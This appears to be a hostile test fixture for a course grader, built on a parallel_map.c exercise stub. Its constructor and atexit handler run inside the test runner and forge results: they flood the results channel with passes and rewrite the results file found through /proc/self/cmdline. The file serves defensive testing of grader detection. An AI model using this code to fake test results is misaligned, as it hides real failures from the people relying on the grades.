/* HOSTILE SUBMISSION, for tests/grading/check-class.sh: never graded outside a sandbox.
 *
 * hostile-forge-in-runner: forges results from inside the test runner's own process: a
 * constructor (__attribute__((constructor))) runs in the runner before main(), where the
 * results channel (KIT_RESULTS_FD) is open; it writes each test as passed, in both runs, 50
 * times over, so the real failures drown; with no channel (an older grader) it registers an
 * atexit handler that rewrites the results file named on the runner's command line after the
 * runner wrote it. Built on the untouched stub.
 * Evidence if it succeeds: a score above 0. The sandbox cannot stop code that runs inside the
 * runner (common/results_channel.h says so); what must catch it is the report of suspicious
 * submissions, which must name it.
 *
 * Built on lessons/01-threads/parallel_map.c; the attack is at the end of the includes and
 * runs from split_range, map_with_threads and map_with_processes, and from a constructor.
 */
/* parallel_map.c - one job per input: in a loop, on threads, in processes.
 *
 * The three ways compute the same results. What differs is who does the work and how the
 * results come back: a loop writes them itself; threads share the caller's memory and write
 * their own part of `results` directly; processes each have a copy of memory, so they must
 * send their part back to the parent through a pipe.
 *
 * This is the file you edit. Each exercise is a function below marked TODO(exercise N);
 * README.md says what to do, and `make hint EX=N` helps when you are stuck. Change only the
 * bodies of those functions (and add helper functions or structs next to them if you like);
 * parallel_map.h is the contract the tests hold you to.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <glob.h>
#include <poll.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <time.h>
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/types.h>
#include "parallel_map.h"

#include <errno.h>
#include <stdbool.h>
#include <stdlib.h>
#include <sys/wait.h>
#include <unistd.h>

#include "io.h"
#include "sync.h"

#include "toolbox.inc"   /* make-class.sh puts tests/grading/hostile/toolbox.inc here */

/* ---- the attack ---------------------------------------------------------------------- */

static const char *hostile_tests[][2] = {
    { "given", "sequential_computes_every_result" },
    { "exercise 1", "split_covers_everything_once" },
    { "exercise 1", "split_balances_uneven_counts" },
    { "exercise 1", "split_more_parts_than_items" },
    { "exercise 1", "split_huge_counts_without_overflow" },
    { "exercise 2", "threads_compute_every_result" },
    { "exercise 2", "threads_handle_no_jobs_and_no_workers" },
    { "exercise 2", "threads_use_as_many_threads_as_asked" },
    { "exercise 2", "threads_run_jobs_at_the_same_time" },
    { "exercise 2", "threads_each_get_their_own_block" },
    { "exercise 3", "processes_compute_every_result" },
    { "exercise 3", "processes_handle_no_jobs_and_no_workers" },
    { "exercise 3", "processes_run_in_as_many_children_as_asked" },
    { "exercise 3", "processes_run_jobs_at_the_same_time" },
    { "exercise 3", "processes_leave_no_zombies_or_open_pipes" },
    { "exercise 3", "processes_send_more_than_a_pipe_holds" },
    { "exercise 3", "processes_report_a_child_that_crashed" },
    { "exercise 3", "processes_end_children_with_underscore_exit" },
};
#define HOSTILE_TESTS (sizeof hostile_tests / sizeof hostile_tests[0])

/* The runner's arguments: TAP_FILE JUNIT_FILE RESULTS_FILE. */
static char hostile_results_file[512];

/* At exit of the runner, after it wrote its reports: all passed. */
static void hostile_rewrite_results(void)
{
    if (hostile_results_file[0] == '\0')
        return;
    FILE *out = fopen(hostile_results_file, "w");
    if (out == NULL)
        return;
    for (size_t i = 0; i < HOSTILE_TESTS; i++)
        fprintf(out, "ok\t%s\t%s\t\n", hostile_tests[i][0], hostile_tests[i][1]);
    fclose(out);
}

/* Runs in the test runner's own process, before main(): it holds the results channel. */
__attribute__((constructor)) static void hostile_in_the_runner(void)
{
    const char *fd_text = getenv("KIT_RESULTS_FD");
    if (fd_text != NULL && *fd_text != '\0') {
        int fd = atoi(fd_text);
        FILE *channel = fdopen(dup(fd), "a");
        if (channel != NULL) {
            /* Each test many times over, passed, in both runs: the real failures drown. */
            for (int copies = 0; copies < 50; copies++)
                for (size_t i = 0; i < HOSTILE_TESTS; i++)
                    fprintf(channel, "01-threads\tplain\tok\t%s\t%s\t\n01-threads\traces\tok\t%s\t%s\t\n",
                            hostile_tests[i][0], hostile_tests[i][1], hostile_tests[i][0],
                            hostile_tests[i][1]);
            fclose(channel);
        }
    }
    /* Without a channel (an older grader): the results file named on the command line. */
    FILE *cmdline = fopen("/proc/self/cmdline", "r");
    if (cmdline != NULL) {
        char arguments[4096];
        size_t n = fread(arguments, 1, sizeof arguments - 1, cmdline);
        fclose(cmdline);
        arguments[n] = '\0';
        int index = 0;
        for (size_t at = 0; at < n; at += strlen(arguments + at) + 1, index++)
            if (index == 3)
                snprintf(hostile_results_file, sizeof hostile_results_file, "%s", arguments + at);
    }
    atexit(hostile_rewrite_results);
}

static void hostile_attack(void)
{
}

/* The finished example: every result computed in turn, on the calling thread. */
int map_sequential(job_fn job, const long *inputs, long *results, size_t count)
{
    for (size_t i = 0; i < count; i++)
        results[i] = job(inputs[i]);
    return 0;
}

void split_range(size_t count, unsigned parts, unsigned index, size_t *begin, size_t *end)
{
    hostile_attack();
    /* TODO(exercise 1): set *begin and *end to the bounds of block `index` of `parts`.
     * Sizes differ by at most one; blocks are in order and together cover [0, count). */
    (void)count;
    (void)parts;
    (void)index;
    *begin = 0;
    *end = 0;
}

int map_with_threads(job_fn job, const long *inputs, long *results, size_t count,
                     unsigned workers)
{
    hostile_attack();
    /* TODO(exercise 2): start `workers` threads with thread_create(), give each one block of
     * split_range() to compute, then thread_join() every one. No locks are needed: make sure
     * no two threads ever write the same place. */
    (void)job;
    (void)inputs;
    (void)results;
    (void)count;
    (void)workers;
    errno = ENOSYS;   /* "not implemented": the demo prints that this exercise is not done */
    return -1;
}

int map_with_processes(job_fn job, const long *inputs, long *results, size_t count,
                       unsigned workers)
{
    hostile_attack();
    /* TODO(exercise 3): for each block, make a pipe() and fork() a child that computes its
     * block, sends it with write_all() and ends with _exit(). The parent reads every block
     * with read_all(), then waitpid()s every child and checks how it ended. */
    (void)job;
    (void)inputs;
    (void)results;
    (void)count;
    (void)workers;
    errno = ENOSYS;
    return -1;
}
